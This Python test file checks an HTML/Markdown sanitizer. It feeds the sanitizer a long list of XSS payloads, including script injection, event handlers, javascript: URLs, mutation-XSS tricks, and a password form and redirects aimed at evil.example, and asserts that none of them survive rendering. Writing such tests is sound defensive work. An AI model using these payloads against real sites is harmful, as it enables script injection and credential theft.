"""Raw HTML: what stays, what goes, and that nothing hostile gets anywhere."""

from __future__ import annotations

import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from publications.markdown import absolute
from publications.markdown.policy import TAGS
from publications.model import Html
from selectolax.lexbor import LexborHTMLParser

from tests.bodies import render

ADDRESSES = ("href", "src", "action", "formaction", "data", "poster", "cite", "background")
SAFE = ("http://", "https://", "mailto:", "tel:", "webcal:", "/", "#")

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert(1)",
    "x <script>alert(1) y",
    "<img src=x onerror=alert(1)>",
    "<img src=carte.png alt=x onerror=alert(1)>",
    "<IMG SRC=carte.png ALT=x ONERROR='alert(1)'>",
    "<img/src='carte.png'/onerror=alert(1)>",
    "<img src=`javascript:alert(1)`>",
    '<img """><script>alert(1)</script>">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><mglyph><style><!--</style><img title='--&gt;&lt;img onerror=alert(1)&gt;'>",
    "<math href='javascript:alert(1)'>x</math>",
    "<svg><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='jAvAsCrIpT:alert(1)'>x</a>",
    "<a href='java&#9;script:alert(1)'>x</a>",
    "<a href='&#x6A;avascript:alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "[x](javascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](\\javascript:alert(1))",
    "[x]\n\n[x]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    '![x](carte.png "a\\" onerror=\\"alert(1)")',
    '![x" onerror=alert(1)](carte.png)',
    '[x](https://x.example/" onclick="alert(1))',
    '[x]{onclick="alert(1)"}',
    "[x]{class='\" onclick=alert(1)'}",
    "[x]{id='\" onclick=alert(1)'}",
    "{onload=alert(1) style=color:red}\nx",
    "![x](carte.png){src=javascript:alert(1) onerror=alert(1)}",
    '```" onclick=alert(1)\nx\n```',
    "```<script>\nx\n```",
    '!!! note" onclick="alert(1)\n    x',
    "!!! <script>alert(1)</script>\n    x",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe src='https://evil.example/'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src='https://tube.example@evil.example/'></iframe>",
    "<iframe src='https://tube.example.evil.example/'></iframe>",
    "<iframe src='https://evil.example\\@tube.example/'></iframe>",
    "<iframe src='/admin'></iframe>",
    "<object data='x.swf'></object><embed src='x.swf'>",
    "<form action='https://evil.example'><input name=password><button>OK</button></form>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>body{display:none}</style>",
    "<div style='position:fixed;inset:0'>x</div>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    "<video src='https://evil.example/v.mp4' onplay=alert(1)></video>",
    "<video><source src='https://evil.example/v.mp4'></video>",
    "<img srcset='https://evil.example/x.png 2x' src='carte.png' alt='x'>",
    "<picture><source srcset='https://evil.example/x.png'></picture>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><script>alert(1)",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<a href='x' href='javascript:alert(1)'>x</a>",
    "<p id='__config'>x</p><a id='__md_scope'>x</a>",
    "</div></main><script>alert(1)</script>",
    "<details open ontoggle=alert(1)>x</details>",
    "<x-y onclick=alert(1)>x</x-y>",
    "<a\nhref='javascript:alert(1)'\n>x</a>",
    "<b title='<script>alert(1)</script>'>x</b>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\<script>alert(1)\\</script>",
    "<div><![if !vml]><script>alert(1)</script><![endif]></div>",
    "x[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    "x[^<script>]\n\n[^<script>]: y",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "\u202e<script>alert(1)</script>\x00<img src=x onerror=alert(1)>",
]


def assert_harmless(html: str) -> None:
    tree = LexborHTMLParser(f"<!doctype html><body><main>{html}</main><i id=after></i></body>")
    assert tree.css_first("body > i#after") is not None, "the body broke out of its place"
    ids = [node.attributes["id"] for node in tree.css("main [id]")]
    assert len(ids) == len(set(ids))
    for node in tree.css("main *"):
        assert node.tag in TAGS
        for name, value in node.attributes.items():
            assert not name.startswith("on")
            assert name not in ("style", "srcdoc", "action", "formaction", "name", "xlink:href")
            if name in ADDRESSES:
                assert (value or "").startswith(SAFE)
                assert not (value or "").startswith("//")
        if node.tag in ("img", "video", "audio", "source", "iframe"):
            loaded = f"{node.attributes.get('src') or ''} {node.attributes.get('srcset') or ''}"
            assert "evil.example" not in loaded


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("frame", ["{}", "avant {} après", "> {}", "- a\n- {}", "<div>\n\n{}\n\n"])
def test_attacks_get_nowhere(attack: str, frame: str) -> None:
    result = render(frame.format(attack))
    assert_harmless(str(result.rendered.html))
    assert_harmless(str(absolute(result.rendered.html, "https://name.example/a/")))


MARKS = ["<", ">", '"', "'", "`", "[", "](", ")", "{", "}", "![", "<!--", "-->", "</b>", "href="]
MORE_MARKS = ["</table>", "<table>", "|", "&", "#", "[^1]", "<p>", "é", "<a ", "\n", "\n\n", " "]
PIECES = st.sampled_from([*ATTACKS, *MARKS, *MORE_MARKS])


@given(st.lists(PIECES, max_size=12).map("".join))
@settings(max_examples=300, deadline=None)
def test_no_mixture_of_attacks_gets_anywhere(text: str) -> None:
    assert_harmless(str(render(text).rendered.html))


@given(st.text())
@settings(max_examples=200, deadline=None)
def test_any_text_renders(text: str) -> None:
    result = render(text)
    assert_harmless(str(result.rendered.html))
    assert absolute(result.rendered.html, "https://name.example/a/") is not None


@pytest.mark.parametrize(
    "unit",
    [
        "> ", "- ", "[", "![", "*a **b ", "<div>", "</div>", "<b>", "`", "``` ", "<", "<!--", "<?",
        "<![CDATA[", "[^a]", "[a](", "[a](b)", "{.a}", "[a]{", "[a]{b=\"", "|", "a|b\n", "# ",
        "!!! note\n", "??? note\n", "&#1", "<a b='\"", "<a b=\"<a b='\" y=\"'\" z='' ", "<svg>",
        "<script>", "\\", "a\n: b\n", "[a]: b\n", "1. ", "http://", "www.a", "a@b", "![a](x.md) ",
        "[a](#x) ", "\t", "~~", "$", "<img src=", "<img srcset='a,", "_a ", "[^a]: b\n\n",
        "<iframe src='https://evil.example'>", "## a\n", "'", "« ", " !",
    ],
)  # fmt: skip
def test_endless_repetition_takes_little_time(unit: str) -> None:
    start = time.process_time()
    result = render(unit * (20_000 // len(unit)))
    assert time.process_time() - start < 10
    assert_harmless(str(result.rendered.html))


def test_deep_nesting_is_no_traceback() -> None:
    for text in ("<div>" * 5000, "<b>" * 5000 + "x", "> " * 5000 + "x", "- " * 5000, "*" * 5000):
        assert_harmless(str(render(text).rendered.html))


@pytest.mark.parametrize(
    ("text", "removed", "line"),
    [
        ("un\n\n<script>x</script>", "<script>", 3),
        ("un\n<span onclick='x'>a</span>", "onclick", 2),
        ("<div\nstyle='x'>a</div>", "style", 1),
        ("<div>\n<p>\n<form>x</form></p></div>", "<form>", 3),
        ("<object></object>", "<object>", 1),
        ('<p id="search">a</p>', 'id="search"', 1),
        ('<p id="__config">a</p>', 'id="__config"', 1),
        ("un\n[x]{onclick=y}", "onclick", 2),
        ("un\n\n{style=y}\ndeux", "style", 4),
        ("<iframe></iframe>", "<iframe>", 1),
        ("<font>a</font>", "<font>", 1),
        ('<p lang="\'">a</p>', "lang", 1),
    ],
)
def test_what_was_removed_is_said_with_its_line(text: str, removed: str, line: int) -> None:
    result = render(text)
    assert result.removed == [removed]
    assert ("html-removed", line) in result.lines


def test_removed_code_is_not_shown_as_text() -> None:
    result = render("a <script>secret()</script> b\n\n<style>\n.secret {}\n</style>\n\nc")
    assert "secret" not in result.html + result.rendered.text


def test_long_comments_are_comments_too() -> None:
    assert render(f"<!-- {'secret ' * 2000} -->\n\na").html == "\n<p>a</p>\n"


def test_comments_are_for_editors() -> None:
    result = render("a <!-- secret --> b\n\n<!--\nsecret\n\nsecret\n-->\n\nc")
    assert "secret" not in result.html
    assert not result.codes


@pytest.mark.parametrize(
    "html",
    [
        '<figure class="a"><figcaption>b</figcaption></figure>',
        "<details open=\"\"><summary>a</summary>b</details>",
        '<abbr title="a">b</abbr> <kbd>c</kbd> <sub>d</sub> <sup>e</sup> <mark>f</mark>',
        '<ins>a</ins> <del datetime="2019-03-19">b</del> <cite>c</cite> <q>d</q>',
        '<dl><dt>a</dt><dd>b</dd></dl>',
        '<ol start="3"><li value="4">a</li></ol>',
        '<time datetime="2019-05-14">b</time> <bdi dir="rtl">c</bdi> a<wbr>b',
    ],
)  # fmt: skip
def test_what_posts_contain_stays(html: str) -> None:
    for text in (html, f"un {html}"):
        result = render(text)
        assert html in result.html
        assert not result.codes


def test_raw_tables_scroll_like_the_others() -> None:
    result = render('<table><tr><td align="right" colspan="2">l\'a</td></tr></table>')
    assert result.one("div.table-wrap > table td") == {"colspan": "2", "class": "align-right"}
    assert "l’a" in result.html


def test_raw_titles_are_below_the_page_title() -> None:
    assert render("<h1>a</h1>").html == "<h2>a</h2>"


def test_raw_pictures_are_like_the_others() -> None:
    result = render('<img src="carte.png" srcset="carte.png 2x, rien.png 3x" alt="a">')
    assert result.one("img") == {
        "src": "/a/carte.png",
        "srcset": "/a/carte.png 2x",
        "alt": "a",
        "width": "800",
        "height": "400",
        "loading": "lazy",
        "decoding": "async",
    }
    assert result.codes == ["file-missing"]


def test_raw_pictures_need_words_or_none_on_purpose() -> None:
    assert render('un\n<img src="carte.png">').lines == [("picture-alt-missing", 2)]
    assert not render('<img src="carte.png" alt="">').codes


def test_films_of_our_own_are_shown() -> None:
    result = render(
        '<video src="film.mp4" poster="carte.png" controls>'
        '<track src="film.vtt" kind="captions" srclang="fr"></video>\n'
        '<audio controls><source src="son.mp3"></audio>'
    )
    assert result.one("video") == {"src": "/a/film.mp4", "poster": "/a/carte.png", "controls": ""}
    assert {file.name for file in result.rendered.assets} == {
        "film.mp4",
        "carte.png",
        "film.vtt",
        "son.mp3",
    }
    assert not result.codes


def test_embeds_of_accepted_hosts_have_a_name_and_a_link() -> None:
    result = render('<iframe src="https://tube.example/v" width="560"></iframe>')
    frame = result.one("iframe")
    assert frame["title"] == "Contenu de tube.example"
    assert "allow-top-navigation" not in (frame["sandbox"] or "")
    assert result.one("a")["href"] == "https://tube.example/v"
    assert not result.codes


@pytest.mark.parametrize("tag", ["iframe", "video", "audio"])
def test_embeds_of_other_sites_become_links(tag: str) -> None:
    result = render(f'un\n\n<{tag} src="https://evil.example/v" title="Un film"></{tag}>')
    assert result.lines == [("embed-remote", 3)]
    assert result.tree.css_first("a").text() == "Un film"
    assert not result.tree.css(tag)


def test_what_was_left_open_is_closed() -> None:
    result = render("<div><b>a\n\n</section></main>\n\nb")
    assert_harmless(str(result.rendered.html))


class TestAbsolute:
    PAGE = "https://name.example/depot/articles/2019/essai/"

    def portable(self, html: str) -> str:
        return str(absolute(Html(html), self.PAGE))

    @pytest.mark.parametrize(
        ("address", "url"),
        [
            ("/depot/articles/x/", "https://name.example/depot/articles/x/"),
            ("/", "https://name.example/"),
            ("/a/../b/./c.svg", "https://name.example/b/c.svg"),
            ("//x.example/a", "https://x.example/a"),
            ("/a?b=c#d", "https://name.example/a?b=c#d"),
            ("#fn-1", f"{PAGE}#fn-1"),
            ("carte.svg", f"{PAGE}carte.svg"),
            ("../autre/", "https://name.example/depot/articles/2019/autre/"),
            ("https://x.example/a", "https://x.example/a"),
            ("mailto:a@x.example", "mailto:a@x.example"),
        ],
    )
    def test_every_link_is_complete(self, address: str, url: str) -> None:
        assert self.portable(f'<a href="{address}">x</a>') == f'<a href="{url}">x</a>'

    def test_every_file_is_complete(self) -> None:
        html = self.portable('<img src="/a.png" srcset="/a.png 1x, b.png 2x" alt="x">')
        (image,) = LexborHTMLParser(html).css("img")
        assert image.attributes == {
            "src": "https://name.example/a.png",
            "srcset": f"https://name.example/a.png 1x, {self.PAGE}b.png 2x",
            "alt": "x",
        }

    def test_what_only_a_page_can_use_goes(self) -> None:
        text = "## A\n\n| a |\n|---|\n| b |\n\n![a](carte.png){.c}\n\nx[^1]\n\n[^1]: Note"
        html = str(absolute(render(text).rendered.html, self.PAGE))
        names = {name for node in LexborHTMLParser(html).css("*") for name in node.attributes}
        assert names == {"href", "src", "alt", "width", "height", "scope"}

    def test_the_title_of_a_note_stands_out_without_our_style_sheet(self) -> None:
        body = render('!!! tip "Un *conseil*"\n    Lisez.').rendered.html
        html = str(absolute(body, self.PAGE))
        assert "<p><strong>Un <em>conseil</em></strong></p>" in html

    def test_embeds_go_and_their_link_stays(self) -> None:
        body = render('<iframe src="https://tube.example/v"></iframe>').rendered.html
        html = str(absolute(body, self.PAGE))
        assert "<iframe" not in html
        assert 'href="https://tube.example/v"' in html

    def test_it_cleans_what_nobody_cleaned(self) -> None:
        html = self.portable("<p onclick=x>a<script>b</script><style>c</style></p>")
        assert html == "<p>a</p>"

    def test_a_malformed_address_is_none(self) -> None:
        assert self.portable('<a href="http://[">x</a>') == "<a>x</a>"
